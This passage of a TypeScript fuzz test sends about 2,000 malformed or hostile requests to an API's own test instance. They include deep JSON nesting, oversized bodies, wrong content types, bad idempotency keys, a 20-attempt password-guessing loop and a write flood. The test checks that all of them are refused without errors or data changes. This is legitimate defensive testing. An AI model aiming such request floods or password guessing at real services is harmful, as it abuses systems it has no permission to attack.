    (base) => ({
      family: 'extra field',
      body: `{${JSON.stringify(pick(EXTRA_KEYS))}:${JSON.stringify(pick(WRONG_TYPES))},${JSON.stringify(base).slice(1)}`,
      contentType: 'application/json',
    }),
    (base) => ({
      family: 'deep nesting',
      body: JSON.stringify({ ...base, [pick(Object.keys(base))]: 0.5 }).replace(
        '0.5',
        nestedJson(pick([50, 1000, 5000])),
      ),
      contentType: 'application/json',
    }),
    () => ({ family: 'deep nesting', body: nestedJson(pick([1000, 10_000])), contentType: 'application/json' }),
    (base) => ({
      family: 'huge body',
      ...json({ ...base, [pick(Object.keys(base))]: 'x'.repeat(70_000 + Math.floor(random() * 100_000)) }),
    }),
    () => ({ family: 'invalid JSON', body: pick(INVALID_JSON), contentType: 'application/json' }),
    () => ({ family: 'not an object', body: pick(NON_OBJECT_JSON), contentType: 'application/json' }),
    (base) => ({ family: 'wrong content type', body: JSON.stringify(base), contentType: pick(WRONG_CONTENT_TYPES) }),
    (base) => ({
      family: 'wrong content type',
      body: new URLSearchParams(
        Object.entries(base).map(([k, v]): [string, string] => [k, typeof v === 'string' ? v : JSON.stringify(v)]),
      ).toString(),
      contentType: 'application/x-www-form-urlencoded',
    }),
  ];
  // The route's own body, under the routes where it changes nothing; a probe that proves the test itself sound.
  for (const route of bodyRoutes.filter((r) => !r.mustFail)) {
    add({
      family: 'harmless valid body',
      method: 'post',
      path: route.path,
      headers: { ...(route.as ? as(route.as) : {}), ...idempotencyKey() },
      ...json(route.base),
      ...(route.search ? { expect: [200] } : {}),
    });
  }
  // Every hostile string in every string field (nested ones too) of every body, and every absurd date in every date
  // field: the systematic share.
  for (const route of bodyRoutes) {
    for (const path of stringPaths(route.base)) {
      const isDate = /^\d{4}-\d\d-\d\d$/.test(String(valueAt(route.base, path)));
      const values = [
        ...HOSTILE.map((h) => ({ family: 'hostile string', value: h })),
        ...(isDate ? ABSURD_DATES.map((d) => ({ family: 'absurd date', value: d })) : []),
      ];
      for (const { family, value } of values) {
        const body = JSON.stringify(withValueAt(route.base, path, value));
        if (route.mustFail && acceptedBy(route.mustFail, body)) continue;
        add({
          family,
          method: 'post',
          path: route.path,
          headers: { ...(route.as ? as(route.as) : {}), ...idempotencyKey() },
          body,
          contentType: 'application/json',
          search: route.search,
        });
      }
    }
  }
  // Then random mutants, up to the count.
  const target = 2_300;
  while (probes.length < target) {
    const route = pick(bodyRoutes);
    const mutant = pick(mutants)(route.base, route.required);
    if (route.mustFail && mutant.contentType === 'application/json' && acceptedBy(route.mustFail, mutant.body))
      continue;
    const headers: Record<string, string> = { ...(route.as ? as(route.as) : {}) };
    if (route.idempotent) {
      // Now and then a key the API must refuse: missing, too short, too long, with spaces.
      const roll = random();
      if (roll < 0.9) Object.assign(headers, idempotencyKey());
      else if (roll < 0.93) headers['Idempotency-Key'] = 'short';
      else if (roll < 0.96) headers['Idempotency-Key'] = 'k'.repeat(300);
      else if (roll < 0.98) headers['Idempotency-Key'] = 'has spaces in it';
    }
    add({
      family: mutant.family,
      method: 'post',
      path: route.path,
      headers,
      body: mutant.body,
      contentType: mutant.contentType,
      search: route.search,
    });
  }

  // 7. On the default-limited app: password guessing from one address and a flood of refused writes by one user.
  for (let i = 0; i < 20; i += 1) {
    probes.push({
      family: 'rate limited sign-in',
      target: 'limited',
      method: 'post',
      path: '/api/auth/sign-in',
      headers: {},
      ...json({ username: 'demo-admin', password: `guess number ${i}` }),
      expect: [401, 429],
    });
  }
  for (let i = 0; i < 140; i += 1) {
    probes.push({
      family: 'rate limited write',
      target: 'limited',
      method: 'post',
      path: `${caseA}/close`,
      headers: { ...as('demo-hhs-officer'), ...idempotencyKey() },
      ...json({ status: 'closed', reason: 'other' }),
      expect: [403, 429],
    });
  }
  return probes;
}

/** Paths to the string fields of a body, one level of nesting deep. */
function stringPaths(body: Record<string, unknown>): string[][] {
  return Object.entries(body).flatMap(([key, value]) => {
    if (typeof value === 'string') return [[key]];
    if (value !== null && typeof value === 'object' && !Array.isArray(value))
      return stringPaths(value as Record<string, unknown>).map((inner) => [key, ...inner]);
    return [];
  });
}

function valueAt(body: Record<string, unknown>, path: string[]): unknown {
  return path.reduce<unknown>(
    (value, key) => (value !== null && typeof value === 'object' ? (value as Record<string, unknown>)[key] : undefined),
    body,
  );
}

function withValueAt(body: Record<string, unknown>, [key, ...rest]: string[], value: unknown): Record<string, unknown> {
  if (key === undefined) return body;
  return { ...body, [key]: rest.length === 0 ? value : withValueAt(body[key] as Record<string, unknown>, rest, value) };
}

function acceptedBy(schema: z.ZodType, text: string): boolean {
  try {
    return schema.safeParse(JSON.parse(text)).success;
  } catch {
    return false;
  }
}

async function send(probe: Probe): Promise<{ status: number; body: string }> {
  const agent = request(probe.target === 'open' ? open : limited);
  let call = agent[probe.method](probe.path).set(probe.headers);
  if (probe.body !== undefined)
    call = call.set('Content-Type', probe.contentType ?? 'application/json').send(probe.body);
  const response = await call;
  return { status: response.status, body: response.text };
}

test('at least 2,000 hostile requests: every one a 4xx, none a 5xx, nothing changed', async () => {
  const today = new Date(await stack.env.currentTimeMs()).toISOString().slice(0, 10);
  const probes = generateProbes(today);
  expect(probes.length).toBeGreaterThanOrEqual(2_000);

  // Every path the API declares is among those probed (each protected one with every method it has, in family 1).
  const { paths } = (await request(open).get('/api/openapi.json').expect(200)).body as {
    paths: Record<string, unknown>;
  };
  const declared = Object.keys(paths).map((path) => path.replace(/\{[^}]+\}/g, '*'));
  const probed = new Set(
    probes.map((p) =>
      p.path
        .split('?')[0]!
        .replace(
          /[0-9a-f]{8}-[0-9a-f-]{27}|[0-9a-z]{16}(?=\/revoke)|[\w-]+(?=\/sign-off)|[\w-]+(?=\/corrections)|(?<=steps\/)[\w-]+(?=\/documents$)|(?<=calendar-feeds\/)[0-9a-z]{16}|(?<=^\/calendar\/)[^/]+(?=\.ics$)|[\w-]+(?=\/daily-digest)/g,
          '*',
        ),
    ),
  );
  expect(declared.filter((path) => !probed.has(path))).toEqual([]);

  const statuses = new Map<number, number>();
  const wrong: string[] = [];
  // Eight at a time: faster than one by one, gentle on two shared cores. The limited share goes last, in order.
  const unlimited = probes.filter((p) => p.target === 'open');
  const inOrder = probes.filter((p) => p.target === 'limited');
  const record = (probe: Probe, answer: { status: number; body: string }) => {
    statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
    const expected = probe.expect
      ? probe.expect.includes(answer.status)
      : (answer.status >= 400 && answer.status < 500) || (probe.search === true && answer.status === 200);
    if (!expected || answer.status >= 500) {
      wrong.push(
        `${answer.status} for ${probe.family}: ${probe.method.toUpperCase()} ${probe.path.slice(0, 200)} body ${(probe.body ?? '').slice(0, 200)} -> ${answer.body.slice(0, 300)}`,
      );
    }
  };
  for (let i = 0; i < unlimited.length; i += 8) {
    const batch = unlimited.slice(i, i + 8);
    const answers = await Promise.all(batch.map(send));
    batch.forEach((probe, index) => record(probe, answers[index]!));
  }
  for (const probe of inOrder) record(probe, await send(probe));

  const distribution = [...statuses.entries()]
    .sort(([a], [b]) => a - b)
    .map(([status, count]) => `${status}×${count}`)
    .join(' ');
  console.log(`fuzz: ${probes.length} requests; statuses ${distribution}`);
  // Every answer as it should be, and nothing changed whatever the answers were: both reported at once.
  const after = await snapshot();
  const changed = Object.keys({ ...before, ...after }).filter(
    (name) => JSON.stringify(before[name]) !== JSON.stringify(after[name]),
  );
  expect({ unexpectedAnswers: wrong, changedData: changed }).toEqual({ unexpectedAnswers: [], changedData: [] });
  expect(after).toEqual(before);
  expect([...statuses.keys()].filter((status) => status >= 500)).toEqual([]);
  expect(statuses.get(429)).toBeGreaterThan(0);
});
